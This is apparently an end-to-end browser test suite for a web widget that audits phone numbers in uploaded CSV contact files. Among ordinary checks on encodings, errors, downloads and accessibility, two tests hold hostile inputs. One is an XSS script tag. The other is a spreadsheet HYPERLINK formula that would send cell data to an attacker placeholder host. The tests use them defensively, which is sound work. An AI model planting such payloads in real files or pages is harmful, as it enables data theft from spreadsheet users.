"""The number audit widget (Tools page) end to end: the built site in headless Chromium,
real Pyodide. Expected values come from `checkers` itself.

Needs Chromium at /usr/bin/chromium; the tests fail (not skip) without it.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from playwright.sync_api import Locator, Page, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from checkers import (
    MAX_CSV_BYTES,
    MAX_SHOWN_ROWS,
    PROBLEM_KINDS,
    BinaryFileError,
    decode_csv_bytes,
    read_columns,
)
from checkers import audit_file as checkers_audit
from checkers.api import handle
from tests.browser import BOOT_MS, axe_violations, widget_on

pytestmark = [pytest.mark.browser, pytest.mark.slow]

WIDGET = '[data-widget="number-audit"]'
PAGE = "/tools/"
FILE_LABEL = "CSV file exported from the CRM"
COLUMN_LABEL = "Column with the mobile numbers"
ID_LABEL = "Column that names each row"

CONTACTS = (
    b"Id,Name,Mobile,Home phone\r\n"
    b"1,Jane Smith,07400 123456,0121 234 5678\r\n"
    b"2,Joe Bloggs,+44 121 234 5678,\r\n"
    b"3,Ann Lee,+447400123456,07400 654321\r\n"
    b'4,"Bo, Jr",12345,\r\n'
    b"5,Cy Young,,\r\n"
    b"6,Di Page,O7400 123456,+44 7400 111222\r\n"
)


def widget(page: Page) -> Locator:
    """The page's first number audit."""
    return widget_on(page, "number-audit")


def expected_audit(
    data: bytes, column: str, region: str = "GB", id_columns: tuple[str, ...] | None = None
) -> dict[str, Any]:
    """What checkers says about the file: its lists, summary and the fixed CSV.

    `id_columns` defaults to the columns csv_columns suggests, as the page preselects them.
    """
    if id_columns is None:
        id_columns = read_columns(data).suggested_id
    result = checkers_audit(data, column, region, id_columns=id_columns)
    return {
        "summary": result.summary,
        "fixed": result.fixed_csv.decode("utf-8-sig"),
        "result": result,
    }


def list_rows(page: Page, key: str) -> Locator:
    return widget(page).locator(f'[data-part="list"][data-list="{key}"] tbody tr')


def shown_rows(page: Page, key: str) -> list[list[str]]:
    """Each row of a list as [label, value, what to do, number to store] (one round trip)."""
    return list_rows(page, key).evaluate_all(
        """rows => rows.map(row => [
            row.cells[0].textContent, row.cells[1].textContent, row.cells[2].textContent,
            row.cells[3].querySelector(".number-audit__number")?.textContent ?? "",
        ])"""
    )


def assert_shows(page: Page, expected: dict[str, Any]) -> None:
    result = expected["result"]
    summary = expected["summary"]
    expect(widget(page).locator('[data-part="verdict"]')).to_have_text(summary.sentence)
    answer = widget(page).locator('[data-part="verdict"]')
    expect(answer).to_have_attribute("data-answer", summary.answer)
    look = {"yes": "success", "fix": "warning", "no": "failure"}[summary.answer]
    expect(answer).to_have_class(re.compile(rf"\badmonition {look}\b"))
    for listed in (result.cannot_receive, result.needs_fix):
        box = widget(page).locator(f'[data-part="list"][data-list="{listed.key}"]')
        if not listed.count:
            expect(box).to_have_count(0)
            continue
        expect(box.locator("caption")).to_have_text(listed.title)
        expect(box.locator("thead th")).to_have_text(list(listed.headings))
        rows = shown_rows(page, listed.key)
        assert rows == [[r.label, r.value, r.todo, r.store or ""] for r in listed.rows]
        assert len(rows) <= MAX_SHOWN_ROWS
    problems = widget(page).locator('[data-part="problems"] tbody tr')
    expect(problems).to_have_count(len(summary.by_problem))
    for index, (code, rows) in enumerate(summary.by_problem.items()):
        cells = problems.nth(index).locator("td")
        expect(cells.nth(0)).to_have_text(PROBLEM_KINDS[code].label)
        expect(cells.nth(1)).to_have_text(f"{rows:,}")
    # No internal code is shown to the reader (the corrected file keeps them).
    text = widget(page).evaluate("node => node.textContent")
    assert [code for code in PROBLEM_KINDS if "_" in code and code in text] == []


def choose_file(page: Page, name: str, data: bytes, mime: str = "text/csv") -> None:
    widget(page).get_by_label(FILE_LABEL).set_input_files(
        files=[{"name": name, "mimeType": mime, "buffer": data}]
    )


def wait_for_columns(page: Page) -> Locator:
    select = widget(page).get_by_label(COLUMN_LABEL)
    expect(select).to_be_enabled(timeout=BOOT_MS)
    return select


def run(page: Page) -> None:
    widget(page).get_by_role("button", name="Check the numbers").click()
    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)


def audit_file(page: Page, name: str, data: bytes, column: str | None = None) -> None:
    choose_file(page, name, data)
    select = wait_for_columns(page)
    if column is not None:
        select.select_option(column)
    run(page)


def test_small_csv_gives_checkers_summary_and_problem_rows(page: Page) -> None:
    page.goto(PAGE)
    choose_file(page, "contacts.csv", CONTACTS)
    select = wait_for_columns(page)
    expect(select).to_have_value("Mobile")  # the likely column is preselected
    expect(widget(page).get_by_label("Country for numbers without a country code")).to_have_value(
        "GB"
    )
    expect(widget(page).get_by_label(ID_LABEL).locator("option:checked")).to_have_text("Name")
    run(page)
    expected = expected_audit(CONTACTS, "Mobile")
    assert expected["result"].id_columns == ("Name",)
    assert expected["summary"].not_sendable > 0
    assert expected["summary"].ok > 0
    assert_shows(page, expected)
    assert shown_rows(page, "cannot_receive")[0][0] == "Joe Bloggs"
    # One summary sentence: shown once; the status line says it to screen readers only.
    sentence = expected["summary"].sentence
    outcome = widget(page).locator('[data-part="outcome"]')
    expect(outcome).to_have_text(sentence)
    expect(outcome).to_have_attribute("role", "status")
    expect(outcome).to_have_class(re.compile(r"\bsms-widget__visually-hidden\b"))
    box = outcome.bounding_box()
    assert box is not None
    assert box["width"] <= 1
    assert box["height"] <= 1


def test_another_column_and_region(page: Page) -> None:
    page.goto(PAGE)
    choose_file(page, "contacts.csv", CONTACTS)
    wait_for_columns(page).select_option("Home phone")
    widget(page).get_by_label("Country for numbers without a country code").select_option("IE")
    run(page)
    expected = expected_audit(CONTACTS, "Home phone", "IE")
    assert expected["summary"].by_problem != expected_audit(CONTACTS, "Mobile")["summary"]
    assert_shows(page, expected)
    expect(widget(page).locator('[data-list="cannot_receive"] thead th').nth(1)).to_have_text(
        "Home phone as written"
    )


def test_semicolon_separated_cp1252_file(page: Page) -> None:
    data = (
        "Nom;Prénom;Téléphone portable\r\n"
        "Dupré;Zoë;07400 123456\r\n"
        "Müller;René;0121 234 5678\r\n"
        "Åström;Åsa;+44 7400 123456\r\n"
    ).encode("cp1252")
    page.goto(PAGE)
    choose_file(page, "export.csv", data)
    expect(wait_for_columns(page)).to_have_value("Téléphone portable")
    expect(widget(page).locator('[data-part="outcome"]')).to_contain_text(
        "semicolon-separated, Windows (cp1252)"
    )
    run(page)
    assert_shows(page, expected_audit(data, "Téléphone portable"))


def test_download_is_checkers_fixed_csv(page: Page, tmp_path: Path) -> None:
    data = ("Id;Name;Mobile\r\n1;Zoë;07400 123456\r\n2;Bob; 0121 234 5678\r\n3;;\r\n").encode(
        "cp1252"
    )
    page.goto(PAGE)
    audit_file(page, "my contacts.csv", data)
    with page.expect_download() as download_info:
        widget(page).get_by_role("button", name="Download corrected CSV").click()
    download = download_info.value
    assert download.suggested_filename == "my contacts-checked.csv"
    target = tmp_path / "fixed.csv"
    download.save_as(target)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig") == expected_audit(data, "Mobile")["fixed"]
    assert "Zoë" in raw.decode("utf-8-sig")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("contacts.xlsx", b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)) * 4),
        ("photo.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4),
    ],
)
def test_binary_file_gives_a_plain_message(page: Page, name: str, data: bytes) -> None:
    with pytest.raises(BinaryFileError) as error:
        decode_csv_bytes(data)
    page.goto(PAGE)
    choose_file(page, name, data, mime="application/octet-stream")
    message = widget(page).locator('[data-part="error"]')
    expect(message).to_have_text(f"Error: {error.value}", timeout=BOOT_MS)
    expect(widget(page).get_by_role("button", name="Check the numbers")).to_be_disabled()


def test_an_empty_csv_gives_a_plain_message(page: Page) -> None:
    reply = handle({"op": "csv_columns", "data": b""})
    assert reply["ok"] is False
    page.goto(PAGE)
    choose_file(page, "contacts.csv", b"")
    expect(widget(page).locator('[data-part="error"]')).to_have_text(
        f"Error: {reply['error']}", timeout=BOOT_MS
    )
    expect(widget(page).locator('[data-part="outcome"]')).to_contain_text(reply["error"])


def test_unbalanced_quote_names_the_line(page: Page) -> None:
    data = b'Name,Mobile\r\nJane,07400 123456\r\nJoe,"0121 234 5678\r\nAnn,07400 654321\r\n'
    page.goto(PAGE)
    choose_file(page, "contacts.csv", data)
    wait_for_columns(page)
    widget(page).get_by_role("button", name="Check the numbers").click()
    expect(widget(page).locator('[data-part="error"]')).to_contain_text(
        "Error: Line 3 of the CSV cannot be read", timeout=BOOT_MS
    )
    expect(widget(page).locator('[data-part="download"]')).to_be_hidden()


def test_a_huge_header_gets_a_plain_message_fast_without_freezing_the_page(page: Page) -> None:
    page.goto(PAGE)
    expect(widget(page)).to_have_attribute("data-state", "ready", timeout=BOOT_MS)
    # 9.5 million columns in 19 MB, made in the page first (as a reader's file would be).
    page.evaluate(
        """() => {
            const header = new TextEncoder().encode("a,".repeat(9_500_000) + "\\n");
            window.__wide = new DataTransfer();
            window.__wide.items.add(new File([header], "wide.csv", { type: "text/csv" }));
        }"""
    )
    page.wait_for_timeout(200)
    page.evaluate(
        """() => {
          window.__long = [];
          new PerformanceObserver((list) => {
            for (const entry of list.getEntries()) window.__long.push(entry.duration);
          }).observe({ type: "longtask" });
        }"""
    )
    started = page.evaluate("performance.now()")
    widget(page).get_by_label(FILE_LABEL).evaluate(
        """(input) => {
            input.files = window.__wide.files;
            input.dispatchEvent(new Event("change", { bubbles: true }));
        }"""
    )
    message = widget(page).locator('[data-part="error"]')
    expect(message).to_contain_text(
        "or more columns; a contacts export has far fewer", timeout=10_000
    )
    took = page.evaluate("performance.now()") - started
    assert took < 2_000, took
    assert max(page.evaluate("window.__long"), default=0) < 200
    expect(widget(page).get_by_label(COLUMN_LABEL).locator("option")).to_have_count(1)


def test_a_file_over_the_limit_is_refused_with_the_limit(page: Page) -> None:
    page.goto(PAGE)
    file_input = widget(page).get_by_label(FILE_LABEL)
    expect(file_input).to_be_enabled()
    # Made in the page (sending 20 MB through Playwright is slow); the same change event.
    file_input.evaluate(
        """(input, size) => {
            const transfer = new DataTransfer();
            transfer.items.add(new File([new Uint8Array(size)], "huge.csv", { type: "text/csv" }));
            input.files = transfer.files;
            input.dispatchEvent(new Event("change", { bubbles: true }));
        }""",
        MAX_CSV_BYTES + 1,
    )
    message = widget(page).locator('[data-part="error"]')
    expect(message).to_contain_text(
        "This file is 20.1 MB; the checker takes files up to 20 MB", timeout=BOOT_MS
    )
    expect(message).to_contain_text("Export only the name and mobile columns")


def test_big_file_shows_the_progress_bar_moving(page: Page) -> None:
    rows = 30_000
    lines = ["Id,Name,Mobile\r\n"]
    for index in range(rows):
        number = f"07{400 + index % 600} {index:06d}" if index % 7 else f"0121 {index:07d}"
        lines.append(f"{index},Person {index},{number}\r\n")
    data = "".join(lines).encode()
    page.goto(PAGE)
    choose_file(page, "big.csv", data)
    wait_for_columns(page)
    page.evaluate(
        """selector => {
            const bar = document.querySelector(selector + ' [data-part="bar"]');
            window.__progress = [];
            new MutationObserver(() => window.__progress.push(
                [bar.value, bar.getAttribute("aria-valuetext"), bar.closest("[hidden]") === null]
            )).observe(bar, { attributes: true, attributeFilter: ["aria-valuetext"] });
        }""",
        f"article {WIDGET}",
    )
    widget(page).get_by_role("button", name="Check the numbers").click()
    expect(widget(page).get_by_role("button", name="Cancel")).to_be_visible()
    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)
    seen = page.evaluate("window.__progress")
    between = [entry for entry in seen if 0 < entry[0] < 100]
    assert between, seen
    assert all(visible for _, _, visible in between), seen
    assert any("rows checked" in text and "%" in text for _, text, _ in between), seen
    values = [value for value, _, _ in seen]
    assert values == sorted(values), values
    expect(widget(page).locator(".number-audit__progress")).to_be_hidden()
    expected = expected_audit(data, "Mobile")
    assert expected["summary"].rows == rows
    assert_shows(page, expected)
    notes = [expected["result"].cannot_receive.note, expected["result"].needs_fix.note]
    assert all(notes), notes
    expect(widget(page).locator('[data-part="rows-note"]')).to_have_text(notes)


def test_cancel_stops_a_long_check(page: Page) -> None:
    lines = ["Mobile\r\n"] + [f"07{400 + i % 600} {i:06d}\r\n" for i in range(150_000)]
    data = "".join(lines).encode()
    page.goto(PAGE)
    choose_file(page, "big.csv", data)
    wait_for_columns(page)
    widget(page).get_by_role("button", name="Check the numbers").click()
    bar = widget(page).locator('[data-part="bar"]')
    expect(bar).not_to_have_attribute("aria-valuetext", "0%, 0 rows checked", timeout=BOOT_MS)
    expect(bar).to_be_visible()
    _assert_no_violation_inside(page)  # the progress bar and Cancel button, while running
    widget(page).get_by_role("button", name="Cancel").click()
    expect(widget(page).locator('[data-part="outcome"]')).to_have_text(
        "Stopped. Nothing was changed."
    )
    expect(widget(page).locator('[data-part="verdict"]')).to_have_count(0)
    # Python restarts; the same file can be checked again afterwards.
    small = CONTACTS
    audit_file(page, "contacts.csv", small)
    assert_shows(page, expected_audit(small, "Mobile"))


def test_check_2_links_here_and_the_widget_works_after_instant_navigation(page: Page) -> None:
    page.goto("/sending-fails/")
    page.evaluate("window.__noReload = true")
    page.locator("article a", has_text="Check a list of numbers").first.click()
    # navigation.tracking may leave the last section's #anchor on the address.
    page.wait_for_url(re.compile(r"/tools/(#.*)?$"))
    expect(page.locator("article h1")).to_contain_text("Check a list of numbers")
    assert page.evaluate("window.__noReload") is True, "the page was reloaded, not swapped"
    audit_file(page, "contacts.csv", CONTACTS)
    assert_shows(page, expected_audit(CONTACTS, "Mobile"))


def test_markup_in_a_cell_is_shown_as_text(page: Page) -> None:
    typed = "<script>alert(1)</script>"
    data = f'Name,Mobile\r\n<b>Jo</b>,"{typed}"\r\n'.encode()
    page.goto(PAGE)
    audit_file(page, "contacts.csv", data)
    cell = list_rows(page, "cannot_receive").locator("td").nth(0)
    expect(cell).to_have_text(typed)
    expect(list_rows(page, "cannot_receive").locator("th")).to_have_text("<b>Jo</b>")
    assert widget(page).locator("script").count() == 0
    assert widget(page).locator("b").count() == 0
    page.wait_for_timeout(300)  # a dialog, if one fired, is caught by the page fixture


def test_keyboard_only(page: Page, tmp_path: Path) -> None:
    page.goto(PAGE)
    file_input = widget(page).get_by_label(FILE_LABEL)
    expect(file_input).to_be_enabled()

    def tab_to(target: Locator) -> None:
        for _ in range(200):
            page.keyboard.press("Tab")
            if target.evaluate("node => node === document.activeElement"):
                return
        pytest.fail(f"Tab never reached {target}")

    tab_to(file_input)
    # Space opens the file chooser. Headless Chromium now and then drops the first press
    # (the page is still busy starting Python), so press again, still from the keyboard.
    for key in ("Space", "Space", "Enter"):
        assert file_input.evaluate("node => node === document.activeElement")
        try:
            with page.expect_file_chooser(timeout=5_000) as chooser:
                page.keyboard.press(key)
            break
        except PlaywrightTimeoutError:
            continue
    else:
        pytest.fail("the keyboard never opened the file chooser")
    chooser.value.set_files(files=[{"name": "c.csv", "mimeType": "text/csv", "buffer": CONTACTS}])
    column = wait_for_columns(page)
    tab_to(column)
    tab_to(widget(page).get_by_role("button", name="Check the numbers"))
    page.keyboard.press("Enter")
    expect(widget(page).locator('[data-part="verdict"]')).to_be_visible(timeout=BOOT_MS)
    assert_shows(page, expected_audit(CONTACTS, "Mobile"))
    save = widget(page).get_by_role("button", name="Download corrected CSV")
    tab_to(save)
    with page.expect_download() as download_info:
        page.keyboard.press("Enter")
    target = tmp_path / "fixed.csv"
    download_info.value.save_as(target)
    assert target.read_bytes().decode("utf-8-sig") == expected_audit(CONTACTS, "Mobile")["fixed"]


def _assert_no_violation_inside(page: Page) -> None:
    violations = axe_violations(page, context=f"article {WIDGET}")
    assert violations == [], [(v["id"], [n["html"] for n in v["nodes"]]) for v in violations]


def test_axe_finds_no_violation_with_results_shown(page: Page) -> None:
    page.goto(PAGE)
    audit_file(page, "contacts.csv", CONTACTS)
    _assert_no_violation_inside(page)
    choose_file(page, "bad.xlsx", b"PK\x03\x04" + bytes(200))
    expect(widget(page).locator('[data-part="error"]')).to_be_visible(timeout=BOOT_MS)
    _assert_no_violation_inside(page)


def test_axe_finds_no_violation_in_dark_mode(page: Page) -> None:
    page.emulate_media(color_scheme="dark")
    page.goto(PAGE)
    audit_file(page, "contacts.csv", CONTACTS)
    assert page.evaluate("document.body.dataset.mdColorScheme") == "slate"
    _assert_no_violation_inside(page)


def test_progress_bar_has_a_name_while_running(page: Page) -> None:
    page.goto(PAGE)
    bar = widget(page).locator("progress")
    expect(bar).to_have_attribute("max", "100")
    # Labelled for assistive technology (axe checks the rest while results are shown).
    expect(widget(page).get_by_label("Checking the numbers")).to_have_count(1)


def test_cells_that_look_like_formulas_are_made_text_and_the_page_says_so(
    page: Page, tmp_path: Path
) -> None:
    data = b'Name,Mobile\r\n"=HYPERLINK(""http://evil.example/?""&A2,""x"")",07400 123456\r\n'
    page.goto(PAGE)
    audit_file(page, "contacts.csv", data)
    expected = expected_audit(data, "Mobile")
    note = widget(page).locator('[data-part="formulas"]')
    expect(note).to_have_text(str(expected["result"].formulas_note))
    expect(note).to_contain_text("1 cell that looked like a formula was made plain text")
    with page.expect_download() as info:
        widget(page).get_by_role("button", name="Download corrected CSV").click()
    target = tmp_path / "fixed.csv"
    info.value.save_as(target)
    text = target.read_bytes().decode("utf-8-sig")
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert text == expected["fixed"]


NAMED = (
    b"Ref,First name,Surname,Mobile\r\n"
    b"A-1,Jane,Smith,07400 123456\r\n"
    b"A-2,Joe,Bloggs,0121 234 5678\r\n"
    b"A-3,,,12345\r\n"
)


def test_the_rows_are_named_by_the_column_the_reader_picks(page: Page) -> None:
    page.goto(PAGE)
    choose_file(page, "contacts.csv", NAMED)
    wait_for_columns(page)
    names = widget(page).get_by_label(ID_LABEL)
    options = names.locator("option")
    expect(options).to_have_text(
        ["None (use line numbers)", "First name + Surname", "Ref", "First name", "Surname",
         "Mobile"]
    )  # fmt: skip
    expect(names.locator("option:checked")).to_have_text("First name + Surname")
    run(page)
    assert_shows(page, expected_audit(NAMED, "Mobile", id_columns=("First name", "Surname")))
    assert [row[0] for row in shown_rows(page, "cannot_receive")] == ["Joe Bloggs", "Line 4"]
    names.select_option(label="Ref")
    expect(widget(page).locator('[data-part="verdict"]')).to_have_count(0)  # asks again
    run(page)
    assert_shows(page, expected_audit(NAMED, "Mobile", id_columns=("Ref",)))
    assert [row[0] for row in shown_rows(page, "cannot_receive")] == ["A-2", "A-3"]
    expect(widget(page).locator('[data-list="cannot_receive"] thead th').first).to_have_text("Ref")
    names.select_option(label="None (use line numbers)")
    run(page)
    assert_shows(page, expected_audit(NAMED, "Mobile", id_columns=()))
    assert [row[0] for row in shown_rows(page, "cannot_receive")] == ["Line 3", "Line 4"]


def test_the_excel_download_keeps_numbers_as_text(
    page: Page, tmp_path: Path, requests: list[str]
) -> None:
    data = b"Id,Name,Mobile\r\n1,Jane,+447400123456\r\n2,Joe,07400 123456\r\n3,Bo,0121 234 5678\r\n"
    page.goto(PAGE)
    audit_file(page, "my contacts.csv", data)
    assert not [url for url in requests if "xlsxwriter" in url], "loaded before it was asked for"
    with page.expect_download(timeout=BOOT_MS) as info:
        widget(page).get_by_role("button", name="Download Excel file").click()
    download = info.value
    assert download.suggested_filename == "my contacts-checked.xlsx"
    target = tmp_path / "fixed.xlsx"
    download.save_as(target)
    sheet = openpyxl.load_workbook(target).active
    header = [cell.value for cell in sheet[1]]
    assert header == ["Id", "Name", "Mobile", "e164", "sendable", "problems"]
    jane = sheet[2]
    for column in ("Mobile", "e164"):
        cell = jane[header.index(column)]
        assert (cell.value, cell.data_type) == ("+447400123456", "s")
    fixed = expected_audit(data, "Mobile")["fixed"]
    assert [[c.value or "" for c in row] for row in sheet.iter_rows()] == [
        line.split(",") for line in fixed.splitlines()
    ]
    wheels = [url for url in requests if "xlsxwriter" in url]
    assert len(wheels) == 1, wheels
    assert wheels[0].endswith(".whl")
    # A second click saves the same file without asking Python again.
    with page.expect_download() as again:
        widget(page).get_by_role("button", name="Download Excel file").click()
    again.value.save_as(tmp_path / "again.xlsx")
    assert (tmp_path / "again.xlsx").read_bytes() == target.read_bytes()


NO_OVERFLOW = """root => {
    const width = document.documentElement.clientWidth;
    const out = [];
    for (const node of root.querySelectorAll("*")) {
        const box = node.getBoundingClientRect();
        if (box.width && node.closest(".sms-widget__table") === null && box.right > width + 0.5)
            out.push(`${node.tagName}.${node.className} right ${box.right}`);
    }
    for (const cell of root.querySelectorAll("[data-part=list] :is(td, th)")) {
        if (cell.scrollWidth > cell.clientWidth + 1)
            out.push(`cell "${cell.textContent}" ${cell.scrollWidth} > ${cell.clientWidth}`);
    }
    for (const box of root.querySelectorAll(".sms-widget__table")) {
        if (box.getBoundingClientRect().right > width + 0.5) out.push("a table box overflows");
    }
    for (const number of root.querySelectorAll(".number-audit__number")) {
        if (getComputedStyle(number).whiteSpace !== "nowrap") out.push("a number can wrap");
        if (number.getClientRects().length > 1) out.push(`"${number.textContent}" wraps`);
    }
    for (const cell of root.querySelectorAll("td, th")) {
        const style = getComputedStyle(cell);
        if (style.overflowWrap === "anywhere" || style.wordBreak === "break-all")
            out.push(`words can break in "${cell.textContent}"`);
    }
    return out;
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_shows_the_lists_without_overflow_or_broken_words(
    contexts: Any, scheme: str
) -> None:
    page = contexts.page(viewport={"width": 390, "height": 844}, color_scheme=scheme)
    page.goto(PAGE)
    data = CONTACTS + b"7,Bartholomew-Fitzwilliam Longname,0044 7400 123456 x12,\r\n"
    audit_file(page, "contacts.csv", data)
    assert_shows(page, expected_audit(data, "Mobile"))
    assert widget(page).evaluate(NO_OVERFLOW) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    # Each row is a card: the headings are hidden, and each cell says what it is.
    expect(widget(page).locator('[data-list="needs_fix"] thead')).not_to_be_in_viewport()
    todo = list_rows(page, "needs_fix").first.locator("td").nth(1)
    content = todo.evaluate("cell => getComputedStyle(cell, '::before').content")
    assert content == '"What to do: "'
    _assert_no_violation_inside(page)
